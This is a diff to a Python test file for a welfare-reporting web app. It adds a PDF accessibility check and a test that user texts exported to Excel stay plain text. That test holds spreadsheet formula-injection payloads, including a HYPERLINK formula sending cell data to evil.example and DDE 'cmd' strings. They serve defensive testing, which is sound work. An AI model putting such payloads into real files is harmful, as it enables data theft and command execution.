@@ -20,7 +20,7 @@ from app.workflow.operations import perform
 from app.workflow.periods import Period
 from app.workflow.transitions import Action
 from app.workflow.welfare_package import InvalidSpan, Place, parse_span
-from helpers import ROLES, login
+from helpers import ROLES, assert_accessible_pdf, login
 
 H2_2025, H1_2026 = Period(2025, 2), Period(2026, 1)
 LATER = datetime(2027, 3, 1, tzinfo=timezone.utc)
@@ -215,6 +215,7 @@ def test_pdf_and_excel_downloads_are_logged(app, published):
     login(client, published["kuopio"].email)
     response = client.get("/welfare/aineisto.pdf?municipality=297&span=2026&themes=housing")
     assert response.status_code == 200 and response.mimetype == "application/pdf"
+    assert_accessible_pdf(response.data, "Sosiaalinen raportointi hyvinvointikertomukseen: Kuopio")
     text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
     flat = " ".join(text.split())
     assert "Sosiaalinen raportointi hyvinvointikertomukseen" in flat and "Kuopio" in flat
@@ -234,6 +235,37 @@ def test_pdf_and_excel_downloads_are_logged(app, published):
     assert [(e.details["what"], e.details["format"], e.details["span"]) for e in entries] == [
         ("welfare_package", "pdf", "2026"), ("welfare_package", "xlsx", "2025-2029")]
     assert entries[0].details["themes"] == ["housing"] and entries[0].actor.email == "hyte.kuo@t.example"
+
+
+def test_texts_that_a_spreadsheet_would_run_are_text_in_the_excel_file(app, org, create_user):
+    """Anonymous reporters' proposals, excerpts, the group's texts and theme names reach the file as typed, as text."""
+    link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
+    hostile = {"description": link + " kuvaus", "proposed_actions": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "summary": "+cmd|' /C calc'!A0", "findings": "-2+3+cmd|' /C calc'!A0", "proposals": "=1+1",
+               "theme": "@Asuminen"}
+    housing = db.session.scalar(sa.select(Theme).where(Theme.code == "housing"))
+    housing.label_fi = hostile["theme"]
+    report = file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
+                                     themes=[housing], description=hostile["description"],
+                                     proposed_actions=hostile["proposed_actions"]), now=at(2026, 2, 1)).report
+    db.session.commit()
+    publish(H1_2026, org, hostile["summary"], {"housing": (hostile["findings"], hostile["proposals"])}, [report.number])
+    county = coordinator(create_user, "hyte.alue@t.example", None)
+
+    client = app.test_client()
+    login(client, county.email)
+    response = client.get("/welfare/aineisto.xlsx?municipality=county&span=2026-H1")
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    for key, text in hostile.items():
+        found = [value for value in texts if value.startswith(text)]
+        assert found and all(texts[value].data_type == "s" for value in found), key
+    highlight = [cell.value for cell in book["Nostetut raportit"][2]]
+    assert highlight[6].startswith(link) and highlight[7] == hostile["proposed_actions"]
+    assert [cell.value for cell in book["Yhteenvedot"][2]] == ["2026-H1", hostile["summary"]]
 
 
 def test_before_anything_is_published_the_page_says_so(app, org):
